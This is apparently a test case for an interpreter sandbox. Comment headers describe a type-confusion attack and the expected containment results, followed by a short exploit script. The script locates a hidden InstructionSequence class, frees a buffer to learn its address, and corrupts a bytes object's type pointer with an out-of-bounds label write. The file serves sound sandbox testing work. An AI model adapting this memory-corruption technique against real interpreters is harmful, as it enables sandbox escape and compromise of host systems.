# attack: the type pointer of a bytes object is overwritten with that of list: type confusion at will
# fence: the type pointer is in the guest's memory, and so is everything that it can reach; the next call is restored
# screened: S105
# step: deploy attack ["look"] => success b'0123456789abcdef0123'
# step: send attack [] => *
# step: call attack ["look"] => success b'0123456789abcdef0123'
def named(name):
    return next(c for c in object.__subclasses__() if c.__name__ == name)


victim = bytes(b"0123456789abcdef0123")
if not args:
    sequence = named("InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    # 65,536 possible types: some word of the data segment that is not a type at all.
    for _ in range(70_000):
        sequence.addop(1, 0, 0, 0, 0, 0)
    offset = (id(victim) + 4 - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)
    victim = [victim, victim[0], repr(victim), victim + victim]
finish(victim)
